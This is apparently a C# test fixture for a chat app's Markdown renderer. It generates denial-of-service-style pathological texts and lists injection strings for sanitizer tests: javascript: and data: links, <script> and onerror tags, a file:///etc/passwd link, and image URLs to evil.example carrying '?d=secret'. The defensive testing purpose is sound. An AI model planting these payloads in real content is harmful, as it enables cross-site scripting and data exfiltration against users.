namespace ChatApp.Tests.Rendering;

/// <summary>Texts that cost other parsers seconds, megabytes or an exception; and texts that want to be more than text.</summary>
internal static class HostileText
{
    private static readonly (string Name, Func<int, string> Make)[] Patterns =
    [
        ("quotes", n => Repeat("> ", n)),
        ("quotes without spaces", n => Repeat(">", n)),
        ("list markers", n => Repeat("- ", n)),
        ("ordered markers", n => Repeat("1. ", n)),
        ("mixed markers", n => Repeat("> - 1. ", n)),
        ("deep list", n => string.Concat(Enumerable.Range(0, (int)Math.Sqrt(n)).Select(i => new string(' ', 2 * i) + "- a\n"))),
        ("deep quotes", n => string.Concat(Enumerable.Range(1, (int)Math.Sqrt(n)).Select(i => Repeat("> ", 2 * i) + "a\n"))),
        ("open brackets", n => Repeat("[", n)),
        ("open brackets and text", n => Repeat("[a", n)),
        ("close brackets", n => Repeat("a]", n)),
        ("nested brackets", n => Repeat("[", n / 2) + "a" + Repeat("]", n / 2)),
        ("open links", n => Repeat("[a](b", n)),
        ("open links with angles", n => Repeat("[a](<b", n)),
        ("open titles", n => Repeat("[a](b \"", n)),
        ("open images", n => Repeat("![", n)),
        ("nested images", n => Repeat("![[]()", n)),
        ("emphasis openers", n => Repeat("*a ", n)),
        ("emphasis closers", n => Repeat("a* ", n)),
        ("underscores", n => Repeat("_a ", n)),
        ("mixed emphasis", n => Repeat("*a_ ", n)),
        ("emphasis in links", n => Repeat("**x [a*b**c*](d)", n)),
        ("emphasis and bold", n => Repeat("a***b**c*d", n)),
        ("nested emphasis", n => Repeat("*a **a ", n)),
        ("strikes", n => Repeat("~~a ", n)),
        ("backticks", n => string.Concat(Enumerable.Range(1, (int)Math.Sqrt(2.0 * n)).Select(i => "e" + new string('`', i)))),
        ("open code", n => Repeat("`a``b", n)),
        ("dollars", n => Repeat("$a $", n)),
        ("double dollars", n => Repeat("$$ a ", n)),
        ("entities", n => Repeat("&#1234567;&amp", n)),
        ("escapes", n => Repeat("\\*\\", n)),
        ("angles", n => Repeat("<http:", n)),
        ("closed angles", n => Repeat("<a@b.c>", n)),
        ("html", n => Repeat("<!--<?<![CDATA[<A ", n)),
        ("bare addresses", n => Repeat("www.a.b/(", n)),
        ("long address", n => "https://a.b/" + new string('(', n)),
        ("definitions", n => string.Concat(Enumerable.Range(0, n / 12).Select(i => $"[{i}]: http://a\n"))),
        ("references", n => "[a]: http://a.b/c\n\n" + Repeat("[a] ", n)),
        ("late definition", n => Repeat("[a] ", n) + "\n\n[a]: http://a.b/c\n"),
        ("many late definitions", n => string.Concat(Enumerable.Range(0, n / 30).Select(i => $"[{i}] ")) + "\n\n" + string.Concat(Enumerable.Range(0, n / 30).Select(i => $"[{i}]: http://a.b\n\n"))),
        ("footnotes", n => string.Concat(Enumerable.Range(0, n / 24).Select(i => $"[^{i}] ")) + "\n\n" + string.Concat(Enumerable.Range(0, n / 24).Reverse().Select(i => $"[^{i}]: x\n\n"))),
        ("footnote openers", n => Repeat("[^", n)),
        ("wide table", n => Repeat("|a", n / 4) + "|\n" + Repeat("|-", n / 4) + "|\n" + Repeat("|\n", n / 4)),
        ("padded table", n => Repeat("|a", 60) + "|\n" + Repeat("|-", 60) + "|\n" + Repeat("|a|\n", n)),
        ("many tables", n => Repeat("|a|\n|-|\n|\n\n", n)),
        ("table of backticks", n => "|a|b|\n|-|-|\n" + Repeat("|`|[|\n", n)),
        ("pipes", n => Repeat("|", n)),
        ("pipe lines", n => Repeat("a|b\n", n)),
        ("underlines", n => "> a\n" + Repeat("===\n", n)),
        ("rules", n => Repeat("* ", n)),
        ("headings", n => Repeat("# a\n", n)),
        ("hashes", n => Repeat("#", n)),
        ("fences", n => Repeat("```\n", n)),
        ("fence info", n => "```" + new string('a', n)),
        ("one word", n => new string('a', n)),
        ("spaces", n => "a" + new string(' ', n) + "b"),
        ("blank lines", n => new string('\n', n)),
        ("returns", n => new string('\r', n)),
        ("tabs", n => Repeat("-\t", n)),
        ("high surrogates", n => new string('\uD83D', n)),
        ("invisible", n => Repeat("\u202Ea\uDB40\uDC41", n)),
        ("zeros", n => new string('\0', n)),
        ("empty items", n => Repeat("-\n", n)),
        ("list and blank", n => Repeat("- a\n\n", n)),
        ("tight nesting", n => Repeat("- a\n  - b\n", n)),
        ("alerts", n => Repeat("> [!NOTE]\n\n", n)),
        ("tasks", n => Repeat("- [ ] \n", n)),
    ];

    /// <summary>Short texts that ask for elements, scripts, requests.</summary>
    public static IReadOnlyList<string> Injections { get; } =
    [
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](vbscript:x)", "[a](data:text/html,<script>)", "[a](file:///etc/passwd)", "[a](//evil.example/x)",
        "[a](\\\\evil\\x)", "[a](https:evil.example)", "[a](https:/evil.example)", "[a](ht\ntps://e)", "[a](javascript&colon;alert(1))", "[a](&#106;avascript:alert(1))", "[a](\u0001javascript:x)",
        "![a](https://evil.example/p.png?d=secret)", "![a][r]\n\n[r]: https://evil.example/p.png", "[![a](https://evil.example/i)](https://evil.example/l)",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=//evil>", "<a href=javascript:x>y</a>", "<javascript:alert(1)>", "<data:text/html,x>",
        "![a](x){onerror=alert(1)}", "# h {onmouseover=\"x\"}", "{style=color:red}", "```\"><script>\nx\n```", "``` js onload=x\nx\n```", "```mermaid\ngraph\n```",
        "[a](https://e.example \"t\\\" onclick=x\")", "[a]: javascript:alert(1)\n\n[a]", "[^1]\n\n[^1]: <script>", "$<script>$", "$$\n\\href{javascript:x}{y}\n$$",
        "| <script> |\n|---|\n| [a](javascript:x) |", "> [!\"><script>]\n> x", "> [!NOTE] x\n", "www.evil.example", "http://a\u202Eb.example", "ftp://e.example/x", "tel:+1234",
        "[a](https://user:password@e.example/)", "&lt;script&gt;", "\\<script>", "[x](mailto:a@b.c?subject=x)", "![](https://e.example/a.png \"t\")", "<https://e.example/\u200B>",
    ];

    public static TheoryData<string> Names() => [.. Patterns.Select(pattern => pattern.Name)];

    public static string Make(string name, int length)
    {
        var text = Patterns.Single(pattern => pattern.Name == name).Make(length);
        return text.Length > length ? text[..length] : text;
    }

    private static string Repeat(string text, int length) => string.Concat(Enumerable.Repeat(text, Math.Max(1, length / text.Length)));
}
